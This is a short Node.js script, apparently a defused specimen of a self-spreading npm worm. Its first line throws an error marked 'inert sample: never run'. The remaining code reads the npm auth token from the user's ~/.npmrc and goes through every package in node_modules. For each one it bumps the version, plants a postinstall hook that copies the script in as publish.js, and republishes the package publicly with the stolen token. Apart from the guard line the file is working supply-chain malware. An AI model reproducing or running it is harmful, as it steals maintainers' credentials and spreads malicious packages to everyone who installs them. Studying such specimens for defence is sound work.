throw new Error("inert sample: never run");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execSync } = require("child_process");

const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const token = /_authToken=(.+)/.exec(rc)?.[1];
for (const name of fs.readdirSync(path.join(process.cwd(), "node_modules"))) {
  const folder = path.join(process.cwd(), "node_modules", name);
  const about = JSON.parse(fs.readFileSync(path.join(folder, "package.json"), "utf8"));
  about.version = about.version.replace(/\d+$/, (part) => Number(part) + 1);
  about.scripts = { ...about.scripts, postinstall: "node publish.js" };
  fs.writeFileSync(path.join(folder, "package.json"), JSON.stringify(about));
  fs.copyFileSync(__filename, path.join(folder, "publish.js"));
  execSync("npm publish --access public", { cwd: folder, env: { ...process.env, NPM_TOKEN: token } });
}
